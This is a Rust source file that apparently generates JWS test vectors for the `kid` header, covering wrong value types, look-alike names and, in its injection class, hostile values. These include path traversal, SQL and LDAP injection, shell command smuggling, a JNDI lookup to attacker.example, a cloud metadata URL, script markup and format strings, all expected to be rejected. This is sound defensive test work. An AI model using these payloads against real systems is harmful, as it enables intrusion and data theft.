//! `kid`: a string, compared byte for byte, and nothing else.

use super::filled;
use crate::build::{Class, accept, inferred, observed, reject};
use crate::format::{Kind, Severity, Tag, VectorFile};
use crate::mint::{Jwks, Jwt, Setting, test_key};
use serde_json::{Value, json};

pub(super) fn classes(setting: &Setting) -> Vec<VectorFile> {
    vec![kind(setting), text(setting), injection(setting)]
}

/// "The structure of the "kid" value is unspecified. Its value MUST be a case-sensitive string."
fn kind(setting: &Setting) -> VectorFile {
    let typed = |(name, kid, sentence): (&str, Value, &str)| {
        reject(name, sentence)
            .twin("jws/kid-missing/sole", &format!("`kid` is {kid}"))
            .stops(&["jws.kid-is-string"])
            .jws(&Jwt::new(setting).header("kid", kid), &Jwks::of(&["rsa-2048-a"]))
    };
    let drafts = [
        ("number", json!(0), "`kid` is a number, which some take for a place in the list"),
        ("array", json!(["rsa-2048-a"]), "`kid` is a list with the right name in it"),
        ("null", Value::Null, "`kid` is null, which some take for no `kid`"),
        ("false", json!(false), "`kid` is a truth value"),
        ("object", json!({"$ne": null}), "`kid` is an object that a document store takes for a query"),
    ]
    .map(typed);
    let number = test_key("rsa-2048-a").jwk().with("kid", 1);
    let in_key = reject("number-in-key", "the key's `kid` is the number 1, the token's is the string `1`")
        .citing("RFC 7517 section 4.5")
        .twin("jws/baseline/sole-rs256", "`kid` is `1` in the token and a number in the key")
        .stops(&["jwk.kid-matches"])
        .aws_stops(
            &["jwk.kid-matches", "jwk.has-kid"],
            inferred("a key without a usable `kid` is unusable (wi-jwks-single-key-no-kid-anywhere)"),
        )
        .jws(&Jwt::new(setting).header("kid", "1"), &Jwks::one(number));
    let class = Class::new(Kind::Jws, "kid-type", "tokens whose `kid` is no string")
        .citing(&["RFC 7515 section 4.1.4"])
        .severity(Severity::Low);
    filled(class, drafts.into_iter().chain([in_key]))
}

/// Names are compared byte for byte: not folded, not trimmed, not normalized, not searched.
fn text(setting: &Setting) -> VectorFile {
    let set = |kid: &str| Jwks::one(test_key("rsa-2048-a").jwk().with("kid", kid));
    let named = |name: &str, kid: &str, sentence: &str| {
        accept(name, sentence).severity(Severity::Low).jws(&Jwt::new(setting).header("kid", kid), &set(kid))
    };
    let escaped = Jwt::new(setting).edit_header(|header| header.with_raw("kid", r#""rsa\u002d2048-a""#));
    let accepted = [
        named("accented", "cl\u{e9}", "`kid` has an accented letter, in the token as in the key"),
        named("empty-both", "", "`kid` is the empty string, in the token as in the key: a name like another")
            .aws(inferred("reported by operators of clusters whose only key has an empty `kid`")),
        named(
            "path-both",
            "../../../../dev/null",
            "`kid` looks like a path, in the token as in the key: it is only a name",
        ),
        accept("escaped", r"`kid` is written `rsa\u002d2048-a`, which is how JSON may spell it")
            .severity(Severity::Low)
            .citing("RFC 8259 section 8.3")
            .jws(&escaped, &set("rsa-2048-a")),
    ];
    let long = "k".repeat(16_384);
    let others = [
        ("unknown", "rsa-2048-z", "`kid` names no key of the set"),
        ("empty", "", "`kid` is the empty string, which is not the same as none"),
        ("uppercase", "RSA-2048-A", "`kid` differs in case"),
        ("space-after", "rsa-2048-a ", "`kid` ends with a space"),
        ("space-before", " rsa-2048-a", "`kid` begins with a space"),
        ("newline-after", "rsa-2048-a\n", "`kid` ends with a newline"),
        ("nul-after", "rsa-2048-a\0x", "a reader of C strings stops at the NUL and finds the key"),
        ("prefix", "rsa-2048", "`kid` is the beginning of the key's"),
        ("suffix", "2048-a", "`kid` is the end of the key's"),
        ("wildcard", "*", "`kid` is a pattern that matches every name"),
        ("soft-hyphen", "rsa\u{ad}-2048-a", "`kid` has a character that nobody sees"),
        ("cyrillic", "rsa-2048-\u{430}", "`kid` has a Cyrillic letter that looks like the Latin one"),
        ("percent-encoded", "rsa%2D2048-a", "`kid` is percent-encoded"),
        ("long", long.as_str(), "`kid` is 16384 characters long"),
    ]
    .map(|(name, kid, sentence)| {
        let said =
            if kid.len() > 64 { "very long".to_owned() } else { format!("`{}`", kid.escape_default()) };
        let draft = reject(name, sentence)
            .twin("jws/baseline/sole-rs256", &format!("`kid` is {said}"))
            .stops(&["jwk.kid-matches"])
            .jws(&Jwt::new(setting).header("kid", kid), &Jwks::of(&["rsa-2048-a"]));
        match name {
            "unknown" => draft.aws(observed("wi-hdr-kid-unknown")),
            "empty" => draft.aws(observed("wi-hdr-kid-empty-string")),
            "long" => draft.tag(Tag::ResourceLimit),
            _ => draft,
        }
    });
    let decomposed =
        reject("decomposed", "`kid` has an accent as a character of its own, the key's has it composed")
            .citing("RFC 8725 section 3.7")
            .twin("jws/kid-text/accented", "the accent is a combining character in the token")
            .stops(&["jwk.kid-matches"])
            .jws(&Jwt::new(setting).header("kid", "cle\u{301}"), &set("cl\u{e9}"));
    let class =
        Class::new(Kind::Jws, "kid-text", "tokens whose `kid` is nearly, or oddly, the name of a key")
            .citing(&["RFC 7515 section 4.1.4", "RFC 7517 section 4.5"])
            .severity(Severity::Medium);
    filled(class, accepted.into_iter().chain(others).chain([decomposed]))
}

/// "If the application uses the "kid" value to perform a lookup in a database, it should perform that lookup in a way
/// that is not vulnerable to injection": here it finds nothing, and touches nothing.
fn injection(setting: &Setting) -> VectorFile {
    let drafts = [
        ("path", "../../../../../../dev/null", "`kid` is a path to an empty file"),
        (
            "absolute-path",
            "/proc/sys/kernel/randomize_va_space",
            "`kid` is the path of a file whose content is known",
        ),
        ("windows-path", r"..\..\..\Windows\win.ini", "`kid` is a path of another system"),
        ("encoded-path", "..%2f..%2f..%2fdev%2fnull", "`kid` is a path behind percent signs"),
        ("sql", "x' UNION SELECT 'key'--", "`kid` adds a row to a query"),
        ("sql-tautology", "' OR '1'='1", "`kid` makes a query return every key"),
        ("ldap", "*)(uid=*))(|(uid=*", "`kid` opens an LDAP filter"),
        ("command-pipe", "key.pem|id", "`kid` is a file name that Ruby's `open` takes for a command"),
        ("command-substitution", "$(touch /tmp/owned)", "`kid` is a command to a shell"),
        ("url", "https://attacker.example/key.pem", "`kid` is a URL of the attacker's"),
        ("metadata-url", "http://169.254.169.254/latest/meta-data/", "`kid` is a URL inside the cloud"),
        ("file-url", "file:///etc/passwd", "`kid` is a URL of a local file"),
        ("lookup", "${jndi:ldap://attacker.example/a}", "`kid` is a lookup to a logging library"),
        ("prototype", "__proto__", "`kid` names what every JavaScript object has"),
        ("constructor", "constructor", "`kid` names a function that every JavaScript object has"),
        ("markup", "<script>alert(1)</script>", "`kid` is markup for whoever shows the log"),
        ("log-lines", "x\r\nINFO token accepted", "`kid` writes a line of the log"),
        ("format", "%s%s%s%n", "`kid` is a format string"),
    ]
    .map(|(name, kid, sentence)| {
        reject(name, sentence)
            .twin("jws/baseline/sole-rs256", &format!("`kid` is `{}`", kid.escape_default()))
            .stops(&["jwk.kid-matches"])
            .jws(&Jwt::new(setting).header("kid", kid), &Jwks::of(&["rsa-2048-a"]))
    });
    let class = Class::new(
        Kind::Jws,
        "kid-injection",
        "tokens whose `kid` is meant for something else than a key set",
    )
    .citing(&["RFC 8725 section 3.10"])
    .severity(Severity::High);
    filled(class, drafts)
}
